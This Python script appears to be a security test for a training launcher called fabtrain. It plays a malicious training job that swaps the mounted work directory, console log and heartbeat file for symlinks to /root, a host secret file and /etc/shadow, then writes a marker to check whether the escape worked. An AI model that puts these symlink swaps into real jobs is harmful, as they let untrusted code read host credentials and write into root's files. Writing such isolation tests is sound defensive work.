"""A training script that attacks its host through what fabtrain does with its output directory,
as a downloaded script could (README: Security). Every node's first process:
- swaps /output/work (the host directory fabtrain mounts at /workspace) for a link to /root;
- swaps its console file (/output/.console/node-N.log, which the host follows and reads) for a
  link to --secret, a file in the host's /root, and its heartbeat file for a link to /etc/shadow;
- writes /workspace/--marker (saying first whether it is there): where /workspace is the host's
  /root, it lands there.
Each attempt says what it could do. No torch.distributed: the attacks are in the files.
"""
import argparse
import os
import shutil
import time

p = argparse.ArgumentParser()
p.add_argument("--secret", required=True)   # an absolute path on the host
p.add_argument("--marker", required=True)   # a file name
a = p.parse_args()
node = os.environ.get("NODE_RANK", "0")
if os.environ.get("LOCAL_RANK", "0") == "0":
    print(f"node {node}: marker there: {os.path.exists(os.path.join('/workspace', a.marker))}", flush=True)
    time.sleep(3)  # the host follows the console file by now: what it printed until the swap is kept
    try:
        shutil.rmtree("/output/work", ignore_errors=True)  # removes the folder too, where it can
        if os.path.isdir("/output/work"):
            os.rmdir("/output/work")
        os.symlink("/root", "/output/work")
        print(f"node {node}: work link planted", flush=True)
    except OSError as e:
        print(f"node {node}: work link refused ({e.strerror})", flush=True)
    for path, target in ((f"/output/.console/node-{node}.log", a.secret), (f"/output/.progress/node-{node}",
                                                                           "/etc/shadow")):
        try:
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink(target, path)
            print(f"node {node}: {path} is a link now", flush=True)
        except OSError as e:
            print(f"node {node}: {path}: {e.strerror}", flush=True)
    try:
        with open(os.path.join("/workspace", a.marker), "w") as f:
            f.write("written through /workspace\n")
    except OSError as e:  # its folder is gone: the swap worked
        print(f"node {node}: /workspace: {e.strerror}", flush=True)
print(f"node {node}: done", flush=True)
